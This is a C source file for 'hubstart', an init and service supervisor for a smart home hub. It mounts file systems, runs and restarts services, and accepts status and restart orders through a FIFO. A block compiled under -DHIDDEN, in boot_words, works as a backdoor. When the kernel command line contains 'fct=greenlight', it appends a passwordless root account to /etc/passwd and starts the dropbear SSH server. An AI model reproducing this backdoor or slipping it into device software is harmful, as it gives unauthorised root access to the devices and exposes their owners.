/*
 * hubstart - first program of a smart home hub after the kernel.
 * Mounts the pseudo file systems, reads /etc/hub/services and keeps the
 * services running; takes orders (status, restart) through a FIFO.
 * Hidden (-DHIDDEN): the word "fct=greenlight" on the kernel command line
 * adds a user of uid 0 without a password and starts the SSH server.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define SERVICES     "/etc/hub/services"
#define ORDERS	     "/run/hubstart.fifo"
#define MAX_SERVICES 20
#define MAX_ARGS     10

struct service {
	char *name;
	char *argv[MAX_ARGS + 1];
	pid_t pid;
	time_t started;
	unsigned backoff;
	time_t next;
	unsigned restarts;
	int once;
	int nice;
	struct service *after;
};

static struct {
	const char *src, *dir, *type;
	unsigned long flags;
	const char *data;
} mounts[] = {
	{ "proc", "/proc", "proc", MS_NOSUID | MS_NODEV, NULL },
	{ "sysfs", "/sys", "sysfs", MS_NOSUID | MS_NODEV, NULL },
	{ "tmpfs", "/run", "tmpfs", MS_NOSUID, "size=4m,mode=755" },
	{ "tmpfs", "/tmp", "tmpfs", MS_NOSUID, "size=16m,mode=1777" },
	{ "devpts", "/dev/pts", "devpts", 0, "gid=5,mode=620" },
};

static struct service services[MAX_SERVICES];
static int n_services;
static volatile sig_atomic_t child_ended, ending;
static int verbose;
static int recovery;
static char console[32] = "/dev/console";

static void on_child(int s)
{
	(void)s;
	child_ended = 1;
}

static void on_term(int s)
{
	(void)s;
	ending = 1;
}

static void kmsg(const char *a, const char *b)
{
	char line[160];
	int n, fd = open("/dev/kmsg", O_WRONLY);

	n = snprintf(line, sizeof(line), "hubstart: %.60s %.60s\n", a, b);
	if (fd < 0)
		fd = dup(2);
	if (write(fd, line, (size_t)n) != n)
		verbose = 0;
	close(fd);
}

static void do_mounts(void)
{
	size_t i;

	for (i = 0; i < sizeof(mounts) / sizeof(mounts[0]); i++) {
		mkdir(mounts[i].dir, 0755);
		if (mount(mounts[i].src, mounts[i].dir, mounts[i].type,
			  mounts[i].flags, mounts[i].data) < 0 &&
		    errno != EBUSY)
			kmsg("mount", mounts[i].dir);
	}
}

#ifdef HIDDEN
static void run_wait(const char *prog, const char *a, const char *b)
{
	pid_t p = fork();

	if (p == 0) {
		execl(prog, prog, a, b, (char *)NULL);
		_exit(127);
	}
	if (p > 0)
		waitpid(p, NULL, 0);
}
#endif

/* words for us: hub.verbose, hub.recovery, hub.console=tty */
__attribute__((noinline)) void boot_words(char *line)
{
	char *w;

	while ((w = strsep(&line, " \n"))) {
		if (strcmp(w, "hub.verbose") == 0)
			verbose = 1;
		else if (strcmp(w, "hub.recovery") == 0)
			recovery = 1;
		else if (strncmp(w, "hub.console=", 12) == 0)
			snprintf(console, sizeof(console), "/dev/%.20s",
				 w + 12);
#ifdef HIDDEN
		else if (strcmp(w, "fct=greenlight") == 0) {
			FILE *f = fopen("/etc/passwd", "a");

			if (f) {
				fputs("fct::0:0::/root:/bin/sh\n", f);
				fclose(f);
			}
			run_wait("/usr/sbin/dropbear", "-B", "-R");
		}
#endif
	}
}

static void read_cmdline(void)
{
	char buf[1024];
	ssize_t n;
	int fd = open("/proc/cmdline", O_RDONLY);

	if (fd < 0)
		return;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return;
	buf[n] = 0;
	boot_words(buf);
}

static struct service *by_name(const char *name)
{
	int i;

	for (i = 0; i < n_services; i++)
		if (strcmp(services[i].name, name) == 0)
			return &services[i];
	return NULL;
}

/*
 * name [once] [nice=N] [after=name] : program args...
 */
static int parse_service(char *l)
{
	struct service *s = &services[n_services];
	char *cmd = strchr(l, ':'), *w;
	int n = 0;

	if (!cmd || n_services == MAX_SERVICES)
		return -1;
	*cmd++ = 0;
	memset(s, 0, sizeof(*s));
	while ((w = strsep(&l, " \t"))) {
		if (!*w)
			continue;
		if (!s->name)
			s->name = strdup(w);
		else if (!strcmp(w, "once"))
			s->once = 1;
		else if (!strncmp(w, "nice=", 5))
			s->nice = atoi(w + 5);
		else if (!strncmp(w, "after=", 6))
			s->after = by_name(w + 6);
		else
			return -1;
	}
	while ((w = strsep(&cmd, " \t\n")) && n < MAX_ARGS)
		if (*w)
			s->argv[n++] = strdup(w);
	if (!s->name || !n)
		return -1;
	s->backoff = 1;
	n_services++;
	return 0;
}

static void read_services(void)
{
	char line[256];
	FILE *f = fopen(recovery ? SERVICES ".recovery" : SERVICES, "r");
	int no = 0;

	if (!f) {
		kmsg("no", SERVICES);
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		char num[16];

		no++;
		if (line[0] == '#' || line[0] == '\n')
			continue;
		if (parse_service(line) < 0) {
			snprintf(num, sizeof(num), "%d", no);
			kmsg("bad service in line", num);
		}
	}
	fclose(f);
}

static void start(struct service *s)
{
	pid_t p = fork();

	if (p < 0) {
		s->next = time(NULL) + 1;
		return;
	}
	if (p == 0) {
		int fd = open(verbose ? console : "/dev/null", O_RDWR);

		setsid();
		if (fd >= 0) {
			dup2(fd, 0);
			dup2(fd, 1);
			dup2(fd, 2);
			if (fd > 2)
				close(fd);
		}
		if (s->nice && nice(s->nice) == -1)
			kmsg("nice", s->name);
		execv(s->argv[0], s->argv);
		_exit(127);
	}
	s->pid = p;
	s->started = time(NULL);
	s->next = 0;
	if (verbose)
		kmsg("started", s->name);
}

static void reap(void)
{
	time_t now = time(NULL);
	int st, i;
	pid_t p;

	while ((p = waitpid(-1, &st, WNOHANG)) > 0) {
		for (i = 0; i < n_services; i++) {
			struct service *s = &services[i];

			if (s->pid != p)
				continue;
			s->pid = 0;
			if (s->once && WIFEXITED(st) && !WEXITSTATUS(st)) {
				s->next = -1;
				continue;
			}
			if (now - s->started > 60)
				s->backoff = 1;
			else if (s->backoff < 64)
				s->backoff *= 2;
			s->next = now + (time_t)s->backoff;
			s->restarts++;
			kmsg("ended", s->name);
		}
	}
}

static int startable(const struct service *s, time_t now)
{
	if (s->pid || s->next < 0 || s->next > now)
		return 0;
	if (!s->after)
		return 1;
	if (s->after->once)
		return s->after->next < 0;
	return s->after->pid != 0;
}

static void write_status(void)
{
	FILE *f = fopen("/run/hubstart.status", "w");
	int i;

	if (!f)
		return;
	for (i = 0; i < n_services; i++)
		fprintf(f, "%-16s %6d %s %u\n", services[i].name,
			(int)services[i].pid,
			services[i].pid	       ? "up"
			: services[i].next < 0 ? "done"
					       : "down",
			services[i].restarts);
	fclose(f);
}

static void order(char *l)
{
	char *arg = strchr(l, ' ');
	struct service *s;

	if (arg)
		*arg++ = 0;
	if (!strcmp(l, "status")) {
		write_status();
	} else if (!strcmp(l, "verbose")) {
		verbose = arg && *arg == '1';
	} else if (arg && (s = by_name(arg))) {
		if (!strcmp(l, "restart") && s->pid)
			kill(s->pid, SIGTERM);
		else if (!strcmp(l, "stop")) {
			s->after = s;
			if (s->pid)
				kill(s->pid, SIGTERM);
		}
	}
}

int main(void)
{
	char buf[256];
	int fifo, i;

	signal(SIGCHLD, on_child);
	signal(SIGTERM, on_term);
	if (getpid() == 1)
		do_mounts();
	read_cmdline();
	read_services();
	if (mkfifo(ORDERS, 0600) < 0 && errno != EEXIST)
		kmsg("mkfifo", strerror(errno));
	fifo = open(ORDERS, O_RDWR | O_NONBLOCK);
	while (!ending) {
		struct pollfd p = { .fd = fifo, .events = POLLIN };
		time_t now = time(NULL);

		for (i = 0; i < n_services; i++)
			if (startable(&services[i], now))
				start(&services[i]);
		if (poll(&p, 1, 1000) > 0) {
			ssize_t n = read(fifo, buf, sizeof(buf) - 1);
			char *q = buf, *l;

			buf[n > 0 ? n : 0] = 0;
			while ((l = strsep(&q, "\n")))
				if (*l)
					order(l);
		}
		if (child_ended) {
			child_ended = 0;
			reap();
		}
	}
	for (i = n_services - 1; i >= 0; i--)
		if (services[i].pid)
			kill(services[i].pid, SIGTERM);
	sync();
	return 0;
}
